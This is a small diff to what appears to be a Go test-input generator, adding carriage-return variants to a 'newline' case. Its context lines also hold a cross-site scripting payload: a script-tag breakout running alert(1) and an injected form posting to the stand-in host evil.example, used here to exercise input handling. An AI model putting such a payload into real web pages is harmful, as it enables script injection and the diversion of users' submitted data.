@@ -91,7 +91,7 @@ func relayFor(class string, rng *rand.Rand) string {
 	case "script":
 		return `</script><script>alert(1)//` + GenXMLString(rng, 1, 8) + `</form><form action="https://evil.example/">`
 	case "newline":
-		return "line1\nline2\tcol sep" + GenXMLString(rng, 0, 5) + "\n"
+		return "line1\nline2\tcol sep\r\nline3\rline4" + GenXMLString(rng, 0, 5) + "\n"
 	case "nonascii":
 		return "zażółć 中文 😀 " + GenXMLString(rng, 3, 12)
 	case "long":
